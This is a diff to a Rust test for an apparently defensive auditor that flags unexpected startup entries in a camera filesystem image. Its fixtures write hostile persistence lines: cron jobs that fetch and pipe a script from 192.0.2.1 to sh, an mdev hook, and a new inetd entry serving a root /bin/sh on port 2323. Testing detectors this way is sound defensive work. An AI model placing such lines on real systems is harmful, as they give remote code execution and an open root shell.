@@ -281,15 +281,16 @@ fn whatever_the_system_starts_is_told() {
     // It leads to what is told already.
     fs::create_dir_all(camera.path("etc/rc.d")).unwrap();
     symlink("../init.d/S97x.log", camera.path("etc/rc.d/S97x")).unwrap();
-    camera.write(
+    put(
         "etc/cron.d/x",
         "* * * * * root wget -qO- http://192.0.2.1/x | sh\n",
     );
-    camera.write(
+    put(
         "var/spool/cron/root",
         "* * * * * wget -qO- http://192.0.2.1/x | sh\n",
     );
-    camera.write("etc/mdev.conf", "sd[a-z] 0:0 660 @/tmp/x\n");
+    put("etc/mdev.conf", "sd[a-z] 0:0 660 @/tmp/x\n");
+    put("etc/inetd.conf", "2323 stream tcp nowait root /bin/sh sh\n");
     let report = camera.report();
     let told = |id: &str| {
         assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
@@ -314,12 +315,15 @@ fn whatever_the_system_starts_is_told() {
             told("start.drift")
         );
     }
-    for path in ["/etc/cron.d/x", "/var/spool/cron/root", "/etc/mdev.conf"] {
-        assert!(
-            told("start.drift").contains(path),
-            "{path}: {}",
-            told("start.drift")
-        );
+    for path in [
+        "/etc/cron.d/x",
+        "/var/spool/cron/root",
+        "/etc/mdev.conf",
+        "/etc/inetd.conf",
+    ] {
+        for id in ["start.drift", "start.added"] {
+            assert!(told(id).contains(path), "{path}: {}", told(id));
+        }
     }
     for path in ["/etc/cron.d/x:1", "/var/spool/cron/root:1"] {
         assert!(told("start.download").contains(path), "{path}");
